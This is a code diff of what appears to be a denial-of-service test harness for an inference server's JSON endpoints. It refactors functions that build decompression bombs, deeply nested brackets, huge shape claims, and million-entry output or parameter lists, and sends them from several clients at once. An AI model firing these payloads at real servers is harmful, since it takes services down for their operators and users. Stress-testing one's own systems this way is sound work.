@@ -29,14 +29,14 @@ def large(megabytes):
 @attack("json-claims", triton=True)
 def json_claims(target):
     """25 MB of JSON whose BYTES inputs each claim a hundred million strings"""
-    return raw_http.heavy(target, 2, raw_http.post(INFER.format("strings"), claims()), 2)
+    return target.heavy(2, raw_http.post(INFER.format("strings"), claims()), 2)
 
 
 @attack("json-claims-gzip", triton=True)
 def json_claims_gzip(target):
     """the same packed with gzip"""
     sent = raw_http.post(INFER.format("strings"), packed(claims()), Content_Encoding="gzip")
-    return f"{len(sent) // 1000} KB sent: " + raw_http.heavy(target, 2, sent, 2)
+    return f"{len(sent) // 1000} KB sent: " + target.heavy(2, sent, 2)
 
 
 @attack("json-claims-numbers")
@@ -44,13 +44,13 @@ def json_claims_numbers(target):
     """25 MB of inputs of numbers whose shapes claim what their data does not have"""
     one = b'{"name":"INPUT0","shape":[99999999],"datatype":"FP64","data":[]}'
     body = b'{"inputs":[' + b",".join([one] * 380_000) + b"]}"
-    return raw_http.heavy(target, 2, raw_http.post(INFER.format("vector"), body), 2)
+    return target.heavy(2, raw_http.post(INFER.format("vector"), body), 2)
 
 
 @attack("json-30mb", triton=True)
 def json_30mb(target):
     """ten clients with 30 MB of JSON numbers each"""
-    return raw_http.heavy(target, 10, raw_http.post(INFER.format("vector"), large(30)))
+    return target.heavy(10, raw_http.post(INFER.format("vector"), large(30)))
 
 
 @attack("json-30mb-strings")
@@ -59,7 +59,7 @@ def json_30mb_strings(target):
     count = 6_000_000
     data = b",".join([b'"ab"'] * count)
     body = b'{"inputs":[{"name":"INPUT0","shape":[%d],"datatype":"BYTES","data":[%s]}]}' % (count, data)
-    return raw_http.heavy(target, 10, raw_http.post(INFER.format("strings"), body))
+    return target.heavy(10, raw_http.post(INFER.format("strings"), body))
 
 
 @attack("json-gzip-small-bodies", triton=True)
@@ -67,14 +67,14 @@ def gzip_small(target):
     """ten clients with 60 KB of gzip that inflate to 60 MB"""
     body = b'{"inputs":[]' + b" " * 60_000_000 + b"}"
     sent = raw_http.post(INFER.format("vector"), packed(body), Content_Encoding="gzip")
-    return f"{len(sent) // 1000} KB sent: " + raw_http.heavy(target, 10, sent)
+    return f"{len(sent) // 1000} KB sent: " + target.heavy(10, sent)
 
 
 @attack("json-gzip-tiny-bodies")
 def gzip_tiny(target):
     """ten clients with 1 KB of gzip that inflate to 1 MB, as fast as they can"""
     body = b'{"inputs":[]' + b" " * 1_000_000 + b"}"
-    return raw_http.heavy(target, 10, raw_http.post(INFER.format("vector"), packed(body), Content_Encoding="gzip"))
+    return target.heavy(10, raw_http.post(INFER.format("vector"), packed(body), Content_Encoding="gzip"))
 
 
 @attack("json-generate-20mb", triton=True)
@@ -82,14 +82,14 @@ def generate_20mb(target):
     """ten clients with generate bodies of 20 MB"""
     count = 20_000_000 // 5
     body = b'{"INPUT0":[' + b",".join([b"1.25"] * count) + b"]}"
-    return raw_http.heavy(target, 10, raw_http.post("/v2/models/vector/generate", body))
+    return target.heavy(10, raw_http.post("/v2/models/vector/generate", body))
 
 
 @attack("json-generate-parameters")
 def generate_parameters(target):
     """ten clients with generate bodies of 400,000 parameters"""
     body = json.dumps({"INPUT0": [1.0], **{f"parameter_{n}": n for n in range(400_000)}}).encode()
-    return raw_http.heavy(target, 10, raw_http.post("/v2/models/vector/generate", body), 3)
+    return target.heavy(10, raw_http.post("/v2/models/vector/generate", body), 3)
 
 
 @attack("json-million-outputs", triton=True)
@@ -97,7 +97,7 @@ def million_outputs(target):
     """a request that names a million outputs, from four clients"""
     body = b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":[1]}],"outputs":['
     body += b",".join([b'{"name":"OUTPUT0"}'] * 1_000_000) + b"]}"
-    return raw_http.heavy(target, 4, raw_http.post(INFER.format("vector"), body), 2)
+    return target.heavy(4, raw_http.post(INFER.format("vector"), body), 2)
 
 
 @attack("json-million-parameters", triton=True)
@@ -105,7 +105,7 @@ def million_parameters(target):
     """a request with a million parameters, from four clients"""
     parameters = b",".join(b'"p%d":1' % n for n in range(1_000_000))
     body = b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":[1]}],"parameters":{%s}}' % parameters
-    return raw_http.heavy(target, 4, raw_http.post(INFER.format("vector"), body), 2)
+    return target.heavy(4, raw_http.post(INFER.format("vector"), body), 2)
 
 
 @attack("json-deep", triton=True)
@@ -114,7 +114,7 @@ def deep(target):
     brackets = b"[" * 10_000_000
     value = raw_http.post(INFER.format("vector"), b'{"id":' + brackets)
     data = raw_http.post(INFER.format("vector"), b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":' + brackets)
-    return raw_http.heavy(target, 2, value, 1) + "; " + raw_http.heavy(target, 2, data, 1)
+    return target.heavy(2, value, 1) + "; " + target.heavy(2, data, 1)
 
 
 @attack("json-long-shape")
@@ -122,4 +122,4 @@ def long_shape(target):
     """a shape of ten million ones"""
     shape = b",".join([b"1"] * 10_000_000)
     body = b'{"inputs":[{"name":"INPUT0","shape":[%s],"datatype":"FP32","data":[1]}]}' % shape
-    return raw_http.heavy(target, 4, raw_http.post(INFER.format("vector"), body), 2)
+    return target.heavy(4, raw_http.post(INFER.format("vector"), body), 2)
